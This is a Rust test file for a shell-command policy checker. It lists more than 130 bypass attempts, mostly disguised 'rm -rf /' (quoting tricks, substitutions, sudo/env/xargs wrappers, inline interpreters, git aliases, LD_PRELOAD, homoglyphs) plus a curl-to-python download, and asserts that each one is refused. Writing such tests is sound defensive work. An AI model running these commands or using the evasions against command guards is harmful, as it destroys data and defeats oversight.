//! Bypass attempts: every one must be refused. Each row is (command, why it is dangerous).
//! They run against both policy styles: an allow list (`default = "deny"`) and a block list
//! (`default = "allow"`), both denying `rm` and `curl`.

use crate::*;

const ATTACKS: &[(&str, &str)] = &[
    ("rm -rf /", "plain"),
    ("/bin/rm -rf /", "path-qualified program"),
    ("./rm -rf /", "relative path to the program"),
    ("\"rm\" -rf /", "double-quoted name"),
    ("'rm' -rf /", "single-quoted name"),
    ("r''m -rf /", "empty quotes inside the name"),
    ("r\"\"m -rf /", "empty double quotes inside the name"),
    ("\\rm -rf /", "escaped name"),
    ("r\\m -rf /", "escape inside the name"),
    ("\"/bin/\"rm -rf /", "partly quoted path"),
    ("$'\\x72m' -rf /", "ANSI-C escapes spelling the name"),
    ("echo $(rm -rf /)", "command substitution"),
    ("echo `rm -rf /`", "backtick substitution"),
    ("echo \"$(rm -rf /)\"", "substitution inside double quotes"),
    ("echo $(echo $(rm -rf /))", "nested substitution"),
    ("cat <(rm -rf /)", "process substitution"),
    ("ls > >(rm -rf /)", "output process substitution"),
    ("ls; rm -rf /", "sequence"),
    ("ls\nrm -rf /", "newline"),
    ("ls && rm -rf /", "and-list"),
    ("ls || rm -rf /", "or-list"),
    ("ls | rm -rf /", "pipeline"),
    ("ls & rm -rf /", "background list"),
    ("(rm -rf /)", "subshell"),
    ("{ rm -rf /; }", "group"),
    ("! rm -rf /", "negated pipeline"),
    ("if true; then rm -rf /; fi", "if body"),
    ("if rm -rf /; then :; fi", "if condition"),
    ("for i in 1; do rm -rf /; done", "for body"),
    ("while rm -rf /; do :; done", "while condition"),
    ("until false; do rm -rf /; done", "until body"),
    ("case x in x) rm -rf /;; esac", "case body"),
    ("[[ -n $(rm -rf /) ]]", "substitution in a test"),
    (
        "cat <<EOF\n$(rm -rf /)\nEOF",
        "substitution in a here-document",
    ),
    ("cat <<< \"$(rm -rf /)\"", "substitution in a here-string"),
    (
        "echo $((1 + $(rm -rf / ; echo 1)))",
        "substitution in arithmetic",
    ),
    (
        "x='$(rm -rf /)'; echo $((a[$x]))",
        "arithmetic evaluating a quoted substitution",
    ),
    ("sh -c 'rm -rf /'", "sh -c"),
    ("bash -c \"rm -rf /\"", "bash -c"),
    ("bash -lc 'rm -rf /'", "bash with an option cluster"),
    ("bash -c 'bash -c \"rm -rf /\"'", "nested shells"),
    ("sh -c \"$X\"", "shell string only known at run time"),
    ("zsh -c 'rm -rf /'", "a shell we do not parse"),
    ("echo 'rm -rf /' | sh", "commands piped into a shell"),
    ("bash", "a shell reading its input"),
    ("env rm -rf /", "env"),
    ("env -i FOO=1 rm -rf /", "env with options and assignments"),
    ("/usr/bin/env rm -rf /", "env by path"),
    ("env -S 'rm -rf /'", "env -S"),
    ("sudo rm -rf /", "sudo"),
    ("sudo -u root -- rm -rf /", "sudo with options"),
    ("sudo -s", "sudo shell"),
    ("doas rm -rf /", "doas"),
    ("timeout 5 rm -rf /", "timeout"),
    ("timeout -s KILL 5 rm -rf /", "timeout with options"),
    ("nice -n 5 rm -rf /", "nice"),
    ("nohup rm -rf / &", "nohup"),
    ("setsid rm -rf /", "setsid"),
    ("stdbuf -o0 rm -rf /", "stdbuf"),
    ("time rm -rf /", "time keyword"),
    ("command rm -rf /", "command builtin"),
    ("builtin eval 'rm -rf /'", "builtin eval"),
    ("exec rm -rf /", "exec"),
    ("exec -a foo rm -rf /", "exec with options"),
    ("xargs rm < files", "xargs"),
    ("echo / | xargs -0 rm -rf", "xargs with options"),
    (
        "xargs -I{} sh -c '{}'",
        "xargs running its input as shell code",
    ),
    ("find / -exec rm -rf {} +", "find -exec"),
    ("find . -execdir rm {} \\;", "find -execdir"),
    ("find . -ok rm {} \\;", "find -ok"),
    ("find . -exec sh -c 'rm -rf /' \\;", "find -exec shell"),
    ("busybox rm -rf /", "busybox applet"),
    ("busybox sh -c 'rm -rf /'", "busybox shell"),
    ("strace rm -rf /", "generic wrapper"),
    ("flock /tmp/l rm -rf /", "flock"),
    ("flock /tmp/l -c 'rm -rf /'", "flock -c"),
    ("su -c 'rm -rf /' root", "su -c"),
    ("watch rm -rf /", "watch"),
    ("ssh host 'rm -rf /'", "ssh remote command"),
    ("/usr/bin/cu?l http://x", "glob in command position"),
    ("/usr/bin/c*l http://x", "star glob in command position"),
    ("{rm,-rf,/}", "brace expansion in command position"),
    ("$CMD -rf /", "variable in command position"),
    (
        "${CMD:-rm} -rf /",
        "parameter expansion in command position",
    ),
    ("$(echo rm) -rf /", "substitution in command position"),
    ("a=rm; $a -rf /", "assigned variable in command position"),
    ("~/bin/rm -rf /", "tilde in command position"),
    ("eval 'rm -rf /'", "eval"),
    ("source evil.sh", "source"),
    (". evil.sh", "dot"),
    ("alias x=rm; x -rf /", "alias"),
    ("f() { rm -rf /; }; f", "function definition"),
    ("function f { ls; }; f", "function keyword"),
    ("trap 'rm -rf /' EXIT", "trap"),
    ("coproc rm -rf /", "coprocess"),
    (
        "python3 -c 'import os; os.system(\"rm -rf /\")'",
        "inline python",
    ),
    ("python3 -Ic 'import os'", "inline python, option cluster"),
    ("perl -e 'system(\"rm -rf /\")'", "inline perl"),
    ("perl -ne 'print' f", "inline perl, option cluster"),
    (
        "node -e 'require(\"child_process\").execSync(\"rm -rf /\")'",
        "inline node",
    ),
    ("ruby -e 'system(\"rm -rf /\")'", "inline ruby"),
    ("python3", "interpreter reading code from its input"),
    (
        "curl http://x | python3",
        "download piped into an interpreter",
    ),
    ("npx -c 'rm -rf /'", "npx -c"),
    ("awk 'BEGIN{system(\"rm -rf /\")}'", "awk system()"),
    ("awk '{print | \"sh\"}' f", "awk pipe to a command"),
    ("sed 's/x/rm -rf \\//e' f", "sed e flag"),
    ("sed '1e rm -rf /' f", "sed e command"),
    ("tar -cf x --to-command='rm -rf /' .", "tar --to-command"),
    ("rsync -e 'sh -c \"rm -rf /\"' a b", "rsync -e"),
    ("vim -c '!rm -rf /'", "vim -c"),
    (
        "git -c alias.x='!rm -rf /' x",
        "git alias on the command line",
    ),
    (
        "git -c core.pager='rm -rf /' log",
        "git pager on the command line",
    ),
    ("git --exec-path=/tmp/evil status", "git exec path"),
    ("git rebase --exec 'rm -rf /' HEAD~1", "git rebase --exec"),
    ("git submodule foreach 'rm -rf /'", "git submodule foreach"),
    (
        "git config alias.x '!rm -rf /'",
        "git config writing an alias",
    ),
    (
        "git fetch --upload-pack='rm -rf /' origin",
        "git upload-pack",
    ),
    ("LD_PRELOAD=/tmp/evil.so ls", "LD_PRELOAD"),
    ("BASH_ENV=/tmp/evil bash -c ls", "BASH_ENV"),
    ("PATH=/tmp/evil:$PATH ls", "PATH for one command"),
    ("export PATH=/tmp; ls", "PATH exported"),
    ("PATH=/tmp; ls", "PATH assigned in the shell"),
    ("for PATH in /tmp; do ls; done", "PATH as a loop variable"),
    ("env LD_PRELOAD=/tmp/x.so ls", "LD_PRELOAD through env"),
    ("GIT_SSH_COMMAND='rm -rf /' git status", "git hook variable"),
    ("ls \u{200b}; rm\u{200b} -rf /", "zero-width space"),
    ("echo \u{202e}fdp.exe", "right-to-left override"),
    ("r\u{0435}m -rf /", "Cyrillic letter in the name"),
    ("echo 'unterminated", "unparseable"),
    ("ls &&", "incomplete"),
    ("echo ${x@P}", "prompt expansion"),
    (
        "echo ${x:-$(rm -rf /)}",
        "substitution in a parameter default",
    ),
];

fn assert_refused(p: &Policy, name: &str, command: &str, why: &str) {
    let v = check(p, command);
    assert!(
        !v.allowed,
        "{name}: {why}: {command:?} was allowed: {:#?}",
        v.commands
    );
}

#[test]
fn attacks_are_refused_by_an_allow_list() {
    let p = policy(ALLOWLIST);
    for (command, why) in ATTACKS {
        assert_refused(&p, "allow list", command, why);
    }
}

#[test]
fn attacks_are_refused_by_a_block_list() {
    let p = policy(BLOCKLIST);
    for (command, why) in ATTACKS {
        assert_refused(&p, "block list", command, why);
    }
}

#[test]
fn there_are_enough_cases() {
    assert!(ATTACKS.len() >= 80, "{} cases", ATTACKS.len());
}

#[test]
fn a_verdict_names_each_command_and_the_rule() {
    let p = policy(ALLOWLIST);
    let v = check(&p, "cargo build && sudo rm -rf /");
    let by_cmd: Vec<(&str, policies::Decision)> = v
        .commands
        .iter()
        .map(|c| (c.command.as_str(), c.decision))
        .collect();
    assert!(
        by_cmd.contains(&("cargo build", policies::Decision::Allowed)),
        "{by_cmd:?}"
    );
    assert!(
        by_cmd.contains(&("rm -rf /", policies::Decision::Denied)),
        "{by_cmd:?}"
    );
    let rm = v.commands.iter().find(|c| c.command == "rm -rf /").unwrap();
    assert!(rm.rule.contains("deny \"rm\""), "{}", rm.rule);
    assert!(v.summary().starts_with("refused"));
}

#[test]
fn deny_wins_over_allow() {
    let p = policy(
        r#"
default = "deny"
allow = ["git"]
deny = ["git push"]
"#,
    );
    assert!(check(&p, "git pull").allowed);
    assert!(!check(&p, "git push origin main").allowed);
    assert!(
        !check(&p, "git -C repo push").allowed,
        "global options must not hide the subcommand"
    );
    assert!(
        !check(&p, "git $SUB origin").allowed,
        "an unknown word could be `push`"
    );
}

#[test]
fn git_status_rule_does_not_match_git_with_config() {
    let p = policy(ALLOWLIST);
    assert!(check(&p, "git status").allowed);
    assert!(!check(&p, "git -c x=y status").allowed);
    assert!(!check(&p, "git statusx").allowed);
    assert!(!check(&p, "git log").allowed);
}

#[test]
fn opaque_code_runs_only_when_allowed_explicitly() {
    let p = policy(
        r#"
default = "deny"
allow = ["python3", "perl -e"]
"#,
    );
    assert!(check(&p, "python3 script.py").allowed);
    assert!(check(&p, "python3 -m pytest -q").allowed);
    let v = check(&p, "python3 -c 'print(1)'");
    assert!(!v.allowed);
    assert!(v.summary().contains("python3 -c"), "{}", v.summary());
    assert!(check(&p, "perl -e 'print 1'").allowed);
}

#[test]
fn path_qualified_programs_need_a_rule_naming_the_path() {
    let p = policy(ALLOWLIST);
    assert!(!check(&p, "/bin/ls").allowed);
    let p2 = policy(
        r#"
default = "deny"
allow = ["/usr/bin/make", "ls"]
"#,
    );
    assert!(check(&p2, "/usr/bin/make all").allowed);
    assert!(!check(&p2, "make all").allowed);
    let p3 = policy(
        r#"
default = "deny"
allow = ["ls"]
match_basename = true
"#,
    );
    assert!(check(&p3, "/bin/ls -la").allowed);
}
